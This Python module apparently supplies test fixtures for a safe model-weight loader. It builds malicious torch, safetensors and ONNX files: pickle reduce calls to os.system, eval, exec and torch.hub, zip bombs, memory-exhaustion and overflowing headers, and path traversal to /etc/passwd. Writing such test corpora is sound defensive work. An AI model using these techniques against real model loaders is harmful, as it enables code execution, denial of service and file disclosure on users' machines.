"""Weight files made with bad intent: the name of each, how to make it, and a word its refusal must hold.

`make(target)` gives the file's bytes; one that runs code would create `target`.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import torch

Make = Callable[[Path], bytes]


class Calls:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function: Callable[..., object], *arguments: object):
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def saved(content: object, *, zipped: bool = True) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def archive(
    opcodes: bytes, storages: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED, **more: bytes
) -> bytes:
    """An archive like torch's around a pickle written by hand."""
    files = {"data.pkl": opcodes, "version": b"3\n", **{name.replace("__", "/"): data for name, data in more.items()}}
    files |= {f"data/{key}": data for key, data in (storages or {}).items()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as made:
        for name, data in files.items():
            made.writestr(f"archive/{name}", data)
    return buffer.getvalue()


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def integer(value: int) -> bytes:
    return b"\x8a\x09" + value.to_bytes(9, "little", signed=True)


def storage(count: int, key: str = "0") -> bytes:
    """A storage of `count` floats on the stack."""
    return b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text(key) + text("cpu") + integer(count) + b"tQ"


def tensor(count: int, size: int, stride: int, offset: int = 0, key: str = "0") -> bytes:
    head = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage(count, key) + integer(offset)
    return head + b"(" + integer(size) + b"t(" + integer(stride) + b"t\x89ccollections\nOrderedDict\n)RtR"


def entries(*pairs: tuple[str, bytes]) -> bytes:
    return b"\x80\x02}(" + b"".join(text(key) + value for key, value in pairs) + b"u."


def _with_code(target: Path) -> bytes:
    class Writer(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Writer()), buffer)
    return buffer.getvalue()


def _tar(target: Path) -> bytes:
    """The format before 2017, which old torch unpacks."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as made:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Calls(Path.touch, target), protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            made.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _two_directories(target: Path) -> bytes:
    """A sound archive behind an evil one: readers differ in which they see."""
    return saved({"a": Calls(Path.touch, target)}) + saved({"a": torch.zeros(3)})


def _overlapping() -> bytes:
    """Two entries of the directory on the same numbers."""
    made = bytearray(saved({"a": torch.zeros(100), "b": torch.ones(100)}))
    first = made.rindex(b"archive/data/0") - 46
    second = made.rindex(b"archive/data/1") - 46
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    made[second + 16 : second + 20] = made[first + 16 : first + 20]
    return bytes(made)


def _header(value: object, data: bytes = b"") -> bytes:
    head = json.dumps(value).encode()
    return struct.pack("<Q", len(head)) + head + data


def _safetensor(**changes: object) -> bytes:
    return _header({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16], **changes}}, bytes(16))


def _sharing() -> bytes:
    """A gigabyte of tensors in a file of one megabyte."""
    named = (("a" * number, tensor(1 << 18, 1 << 18, 1)) for number in range(1, 1000))
    return archive(entries(*named), {"0": bytes(1 << 20)})


def _doubling() -> bytes:
    """Pairs of the pair before and itself: a few hundred bytes, and 2^60 times the text when it is written out."""
    pairs = (b"h" + bytes([n]) + b"\x86q" + bytes([n + 1]) for n in range(60))
    return text("a") + b"q\x00" + b"".join(pairs)


NESTED = b"\x80\x02}" + b")" + b"\x85" * 150_000 + b"K\x01s."  # a key of tuples in tuples
CORPUS: dict[str, tuple[Make, str]] = {
    "reduce: Path.touch": (lambda t: saved({"a": Calls(Path.touch, t)}), "run code"),
    "reduce: Path.touch, old format": (lambda t: saved({"a": Calls(Path.touch, t)}, zipped=False), "run code"),
    "reduce: os.system": (lambda t: saved({"a": Calls(os.system, f"touch {t}")}), "run code"),
    "reduce: subprocess": (lambda t: saved({"a": Calls(subprocess.check_call, ["touch", str(t)])}), "run code"),
    "reduce: builtins.eval": (lambda t: saved({"a": Calls(eval, f"open({str(t)!r}, 'w')")}), "run code"),
    "reduce: builtins.exec": (lambda t: saved({"a": Calls(exec, f"open({str(t)!r}, 'w')")}), "run code"),
    "reduce: torch.load": (lambda t: saved({"a": Calls(torch.load, str(t))}), "run code"),
    "reduce: torch.save": (lambda t: saved({"a": Calls(torch.save, 1, str(t))}), "run code"),
    "reduce: torch.hub": (lambda t: saved({"a": Calls(torch.hub.load, "evil/repo", "model")}), "run code"),
    "reduce: bytearray of 64 GB": (lambda t: saved({"a": Calls(bytearray, 1 << 36)}), "run code"),
    "bare pickle": (lambda t: pickle.dumps(Calls(Path.touch, t)), ""),
    "bare pickle, protocol 0": (lambda t: pickle.dumps(Calls(Path.touch, t), protocol=0), ""),
    "stack global": (lambda t: archive(pickle.dumps({"a": Calls(Path.touch, t)}, protocol=4)), "run code"),
    "inst": (lambda t: archive(b"\x80\x02(" + text(f"touch {t}") + b"ios\nsystem\n."), "INST"),
    "obj": (lambda t: archive(b"\x80\x02(cos\nsystem\n" + text(f"touch {t}") + b"o."), "run code"),
    "newobj": (lambda t: archive(b"\x80\x02ctorch\nFloatStorage\n" + b"(" + integer(1 << 40) + b"t\x81."), "NEWOBJ"),
    "extension registry": (lambda t: archive(b"\x80\x02\x82\x01."), ""),
    "build on a function": (lambda t: archive(b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n}b."), "in the place"),
    "storage called as a function": (
        lambda t: archive(b"\x80\x02ctorch\nFloatStorage\n(" + integer(1 << 40) + b"tR."),
        "run code",
    ),
    "persistent id of a module": (lambda t: archive(b"\x80\x02(" + text("module") + b"NNNNtQ."), "module"),
    "persistent id that doubles without end": (lambda t: archive(b"\x80\x02(" + _doubling() + b"NNNNtQ."), "tuple"),
    "a name that doubles without end": (lambda t: archive(b"\x80\x02" + _doubling() + text("b") + b"\x93."), "tuple"),
    "TorchScript": (_with_code, "refused"),
    "tar of before 2017": (_tar, ""),
    "two directories": (_two_directories, ""),
    "overlapping entries": (lambda t: _overlapping(), "over each other"),
    "archive in an archive": (lambda t: archive(saved({"a": torch.zeros(3)})), ""),
    "zip bomb, pickle": (lambda t: archive(bytes(200 << 20), method=zipfile.ZIP_DEFLATED), "compressed"),
    "zip bomb, storage": (
        lambda t: archive(entries(("a", tensor(1 << 26, 1 << 26, 1))), {"0": bytes(1 << 28)}, zipfile.ZIP_DEFLATED),
        "compressed",
    ),
    "many entries": (lambda t: archive(b".", {str(number): b"" for number in range(30_000)}), "30002 entries"),
    "no end": (lambda t: archive(b"\x80\x02" + b"]" * 1000), "exhausted"),
    "endless opcodes": (lambda t: archive(b"\x80\x02" + b"]" * 1_900_000 + b"."), "opcodes"),
    "a pickle too large": (lambda t: archive(b"\x80\x02" + b"]" * 3_000_000 + b"."), "at most"),
    "a key nested without end": (lambda t: archive(NESTED), "key of type tuple"),
    "memo beyond all memory": (lambda t: archive(b"\x80\x02}r\xff\xff\xff\xff."), "no named tensors"),
    "text beyond all memory": (lambda t: archive(b"\x80\x02X\xff\xff\xff\xff."), "not a whole"),
    "a tensor of 4 TB on nothing": (lambda t: archive(entries(("a", tensor(1 << 40, 1 << 40, 1))), {"0": b""}), "0 of"),
    "a tensor of 4 TB on one number": (
        lambda t: archive(entries(("a", tensor(1, 1 << 40, 0))), {"0": bytes(4)}),
        "declared on 1 numbers",
    ),
    "a tensor beyond its storage": (
        lambda t: archive(entries(("a", tensor(4, 4, 1, 1 << 40))), {"0": bytes(16)}),
        "declared on 4 numbers",
    ),
    "a tensor before its storage": (
        lambda t: archive(entries(("a", tensor(4, 4, 1, -64))), {"0": bytes(16)}),
        "stride",
    ),
    "a storage of negative size": (lambda t: archive(entries(("a", tensor(-4, 4, 1))), {"0": bytes(16)}), "bytes"),
    "a thousand tensors on the same numbers": (lambda t: _sharing(), "declares"),
    "a storage of another file": (lambda t: archive(entries(("a", tensor(4, 4, 1, 0, "../../x")))), ""),
    "safetensors: header of 2^63 bytes": (lambda t: struct.pack("<Q", 1 << 63) + b"{}", "safetensors"),
    "safetensors: a tensor of 4 TB": (
        lambda t: _safetensor(shape=[1 << 40], data_offsets=[0, 1 << 42]),
        "not a whole safetensors",
    ),
    "safetensors: shape overflows": (lambda t: _safetensor(shape=[1 << 62, 1 << 62]), "not a whole safetensors"),
    "safetensors: offsets backwards": (lambda t: _safetensor(data_offsets=[16, 0]), "not a whole safetensors"),
    "safetensors: unknown type": (lambda t: _safetensor(dtype="F3"), "not a whole safetensors"),
    "safetensors: nested without end": (
        lambda t: struct.pack("<Q", 400_006) + b'{"a":' + b"[" * 400_001,
        "not a whole safetensors",
    ),
    "safetensors: two tensors on the same numbers": (
        lambda t: _header(
            {key: {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]} for key in ("a", "b")}, bytes(16)
        ),
        "not a whole safetensors",
    ),
    "ONNX: external data elsewhere": (lambda t: _external(), ""),
    "ONNX: a constant of 40 GB": (lambda t: _constants(("ConstantOfShape", "s"), shape=[100_000, 100_000]), ""),
    "ONNX: a constant made of many": (lambda t: _constants(*[("Add", f"c{n}", f"c{n + 1}") for n in range(60)]), ""),
    "ONNX: noise": (lambda t: b"\x08\x08\x12\x07" + bytes(range(256)) * 20, "ONNX"),
}


def _external() -> bytes:
    """A constant said to lie in a file of the system."""
    try:
        import onnx
    except ImportError:
        return b"\x08\x08\x12\x07pytorch"
    weight = onnx.TensorProto(name="w", data_type=1, dims=[1, 1], data_location=1)
    weight.external_data.add(key="location", value="../../../../../../etc/passwd")
    node = onnx.helper.make_node("Identity", ["w"], ["y"])
    value = onnx.helper.make_tensor_value_info("y", 1, [1, 1])
    graph = onnx.helper.make_graph([node], "g", [], [value], [weight])
    return onnx.helper.make_model(graph, producer_name="x").SerializeToString()


def _constants(*nodes: tuple[str, ...], shape: Sequence[int] = (1,)) -> bytes:
    """A convolution by what `nodes` make of the constants c0, c1 and `shape`; each makes the next c."""
    try:
        import onnx
    except ImportError:
        return b"\x08\x08\x12\x07pytorch"
    make = onnx.helper
    made = [make.make_node(kind, parts, [f"c{n}"]) for n, (kind, *parts) in enumerate(nodes, 2)]
    made.append(make.make_node("Conv", ["x", made[-1].output[0]], ["y"]))
    ones = np.ones((1, 3, 1, 1), np.float32)
    stored = [onnx.numpy_helper.from_array(ones, name) for name in ("c0", "c1")]
    stored.append(onnx.numpy_helper.from_array(np.array(shape, np.int64), "s"))
    values = [make.make_tensor_value_info(name, 1, [1, 3, 1, 1]) for name in ("x", "y")]
    graph = make.make_graph(made, "g", values[:1], values[1:], stored)
    return make.make_model(graph, producer_name="x").SerializeToString()
